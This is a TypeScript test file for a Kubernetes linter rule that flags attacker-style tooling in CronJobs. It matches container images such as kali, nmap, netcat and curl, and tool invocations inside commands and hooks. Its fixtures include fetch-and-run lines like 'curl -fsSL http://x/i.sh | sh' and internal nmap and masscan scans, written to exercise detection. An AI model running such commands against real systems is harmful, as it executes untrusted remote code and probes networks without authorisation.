import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { containerPath, cronJob, findingsOf, invokedTools, podWith, POD_SPEC_LINE } from '../indicator-helpers.js';

/** The attacker-tooling image findings of a one-container CronJob with this image. */
function imageFindings(image: string) {
  return findingsOf(cronJob(podWith({ image })), 'attacker-tooling').filter((finding) => finding.path.endsWith('/image'));
}

/** Line of `image:` in podWith's output. */
const IMAGE_LINE = POD_SPEC_LINE + 3;

describe('attacker-tooling: images', () => {
  const matches: Array<[string, string]> = [
    ['busybox', 'busybox'],
    ['busybox:1.36', 'busybox'],
    ['alpine:3.20', 'alpine'],
    ['docker.io/library/ubuntu:24.04', 'ubuntu'],
    ['debian:bookworm-slim', 'debian'],
    ['kalilinux/kali-rolling@sha256:0f4b2c5e2a1d8b7e6c3a9f0d1e2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d', 'kali'],
    ['curlimages/curl:8.8.0', 'curl'],
    ['python:3.12-slim', 'python'],
    ['ghcr.io/acme/python3:latest', 'python'],
    ['perl', 'perl'],
    ['php-fpm', 'php'],
    ['instrumentisto/nmap', 'nmap'],
    ['ilyaglow/masscan', 'masscan'],
    ['subfuzion/netcat', 'netcat'],
    ['registry.local:5000/tools/wget:1.21', 'wget'],
    ['RUBY:3', 'ruby'],
  ];
  for (const [image, tool] of matches) {
    test(`${image} is the ${tool} image`, () => {
      const [finding, ...rest] = imageFindings(image);
      assert.equal(rest.length, 0);
      assert.ok(finding, `no finding for ${image}`);
      assert.equal(finding.severity, 'information');
      assert.equal(finding.path, containerPath('image'));
      assert.match(finding.message, new RegExp(`the ${tool} image`));
      assert.equal(finding.range?.start.line, IMAGE_LINE);
      assert.equal(finding.range?.start.column, POD_SPEC_COLUMN_OF_IMAGE);
    });
  }

  const lookAlikes = [
    'ghcr.io/acme/superlative-reporter:2.1',
    'acme/perlite-app',
    'acme/alpine-tools-not/reporter',
    'gcr.io/distroless/static-debian12',
    'acme/my-curl-wrapper',
    'registry.example/ubuntu/report:1.0',
    'acme/pythonic',
    'bitnami/kubectl@sha256:abc',
    'acme/phpmyadmin-backup',
  ];
  for (const image of lookAlikes) {
    test(`${image} is not an attacker-tooling image (repository name, never a substring or a namespace)`, () => {
      assert.deepEqual(imageFindings(image), []);
    });
  }
});

/** Column of the image value in podWith's output: 10 (pod spec) + "  image: ". */
const POD_SPEC_COLUMN_OF_IMAGE = 11 + '  image: '.length;

describe('attacker-tooling: invocations', () => {
  test('curl piped into sh is an invocation of curl, with warning severity at the script scalar', () => {
    const findings = findingsOf(cronJob(podWith({ command: ['sh', '-c', 'curl -fsSL http://x/i.sh | sh'] })), 'attacker-tooling');
    assert.equal(findings.length, 1);
    assert.equal(findings[0].severity, 'warning');
    assert.equal(findings[0].path, containerPath('command', 2));
    assert.equal(findings[0].evidence, 'curl -fsSL http://x/i.sh');
  });

  test('argv[0] is matched by its basename: /usr/bin/curl is curl', () => {
    assert.deepEqual(invokedTools(['/usr/bin/curl', '-s', 'http://x']), ['/usr/bin/curl -s http://x']);
  });

  test('versioned names count: python3, python3.12, perl5, php8.2, ruby3.3, wget2', () => {
    for (const program of ['python3', 'python3.12', 'perl5', 'php8.2', 'ruby3.3', 'wget2']) {
      assert.equal(invokedTools([program, 'x']).length, 1, program);
    }
  });

  test('nc, ncat and netcat run netcat', () => {
    assert.match(findingsOf(cronJob(podWith({ command: ['nc', '-z', 'db', '5432'] })), 'attacker-tooling')[0].message, /runs nc \(netcat\)/);
    assert.equal(invokedTools(['ncat', 'h', '1']).length, 1);
    assert.equal(invokedTools(['netcat', 'h', '1']).length, 1);
  });

  test('nmap and masscan run as the image entrypoint args', () => {
    assert.deepEqual(invokedTools(undefined, ['nmap', '-sV', '10.0.0.0/24']), ['nmap -sV 10.0.0.0/24']);
    assert.deepEqual(invokedTools(undefined, ['masscan', '-p80', '10.0.0.0/8']), ['masscan -p80 10.0.0.0/8']);
  });

  test('args that start with an option run the entrypoint of a single-program image (curlimages/curl)', () => {
    assert.deepEqual(invokedTools(undefined, ['-fsSL', 'http://x'], { image: 'curlimages/curl:8.8.0' }), ['curl -fsSL http://x']);
    assert.deepEqual(invokedTools(undefined, ['-v'], { image: 'alpine:3.20' }), []);
  });

  test('wrappers do not hide the tool: sudo, env, nohup, timeout, busybox wget', () => {
    assert.deepEqual(invokedTools(['sh', '-c', 'sudo -u app env A=1 nohup timeout 30 wget -q http://x']), ['sudo -u app env A=1 nohup timeout 30 wget -q http://x']);
    assert.deepEqual(invokedTools(['busybox', 'wget', 'http://x']), ['busybox wget http://x']);
  });

  test('one finding per distinct tool per scalar', () => {
    const evidence = invokedTools(['sh', '-c', 'curl a; curl b; wget c; curl d']);
    assert.deepEqual(evidence, ['curl a', 'wget c']);
  });

  test('the same tool in two scalars is two findings, each at its own scalar', () => {
    const text = cronJob(
      [
        'restartPolicy: Never',
        'containers:',
        '- name: app',
        '  image: registry.example/acme/app:1',
        '  command: [curl, -s, "http://a"]',
        '  livenessProbe:',
        '    exec: {command: [curl, -f, "http://localhost/healthz"]}',
      ].join('\n'),
    );
    assert.deepEqual(
      findingsOf(text, 'attacker-tooling').map((finding) => finding.path),
      [containerPath('command', 0), containerPath('livenessProbe', 'exec', 'command', 0)],
    );
  });

  test('programs whose names only start like a tool are not the tool: curl-config, python3-config, phpunit, perldoc', () => {
    assert.deepEqual(invokedTools(['sh', '-c', 'curl-config --version; python3-config --libs; phpunit; perldoc -f open; nmap-wrapper']), []);
  });

  test('echo curl is not an invocation', () => {
    assert.deepEqual(invokedTools(['sh', '-c', 'echo curl wget nmap']), []);
  });

  test('tool names as arguments are not invocations: grep curl, --user-agent=curl, apk add curl', () => {
    assert.deepEqual(invokedTools(['sh', '-c', 'grep curl /var/log/app.log; http --user-agent=curl x; apk add --no-cache curl wget']), []);
  });

  test('tool names in a for-list or a case pattern are not invocations', () => {
    assert.deepEqual(invokedTools(['sh', '-c', 'for t in curl wget nc; do which $t; done; case $1 in python) :;; esac']), []);
  });

  test('`command -v curl` and `which wget` only look the tool up', () => {
    assert.deepEqual(invokedTools(['sh', '-c', 'command -v curl >/dev/null && which wget']), []);
  });

  test('tool names in env values, labels, annotations, container and job names are not invocations', () => {
    const text = [
      'apiVersion: batch/v1',
      'kind: CronJob',
      'metadata:',
      '  name: curl-wget-nmap',
      '  labels: {tool: curl, app: python}',
      '  annotations:',
      '    description: "runs curl | sh against perl"',
      'spec:',
      '  schedule: "@daily"',
      '  jobTemplate:',
      '    spec:',
      '      template:',
      '        metadata: {labels: {runs: wget}}',
      '        spec:',
      '          restartPolicy: Never',
      '          containers:',
      '          - name: curl',
      '            image: registry.example/acme/report:1',
      '            env:',
      '            - {name: FETCHER, value: "curl -fsSL http://x | sh"}',
      '            - {name: curl, value: wget}',
      '            command: ["/app/report", "--fetcher=curl", "--lang", "perl"]',
      '',
    ].join('\n');
    assert.deepEqual(findingsOf(text, 'attacker-tooling'), []);
  });

  test('a script in a block scalar: the finding spans the scalar that holds the script', () => {
    const text = cronJob(
      ['restartPolicy: Never', 'containers:', '- name: sync', '  image: registry.example/acme/sync:1', '  command:', '  - /bin/sh', '  - -c', '  - |', '    set -e', '    wget -qO /tmp/x http://x', '    /tmp/x'].join('\n'),
    );
    const [finding] = findingsOf(text, 'attacker-tooling');
    assert.equal(finding.path, containerPath('command', 2));
    assert.equal(finding.evidence, 'wget -qO /tmp/x http://x');
    const wgetLine = text.split('\n').findIndex((line) => line.includes('wget -qO')) + 1;
    assert.ok(finding.range!.start.line <= wgetLine && wgetLine <= finding.range!.end.line, JSON.stringify(finding.range));
  });

  test('the exact range of a flow-sequence script scalar', () => {
    const text = cronJob(podWith({ command: ['sh', '-c', 'curl x'] }));
    const [finding] = findingsOf(text, 'attacker-tooling');
    const line = text.split('\n')[finding.range!.start.line - 1];
    // The scalar's value, with or without its quotes, and nothing around it.
    assert.equal(line.slice(finding.range!.start.column - 1, finding.range!.end.column - 1).replace(/^"(.*)"$/, '$1'), 'curl x');
    assert.equal(finding.range!.start.line, finding.range!.end.line);
  });

  test('a command in a postStart hook is reported with its origin', () => {
    const text = cronJob(
      ['restartPolicy: Never', 'containers:', '- name: app', '  image: registry.example/acme/app:1', '  lifecycle:', '    postStart:', '      exec:', '        command: [sh, -c, "wget -q http://x"]'].join('\n'),
    );
    const [finding] = findingsOf(text, 'attacker-tooling');
    assert.equal(finding.path, containerPath('lifecycle', 'postStart', 'exec', 'command', 2));
    assert.match(finding.message, /in its postStart hook/);
  });
});
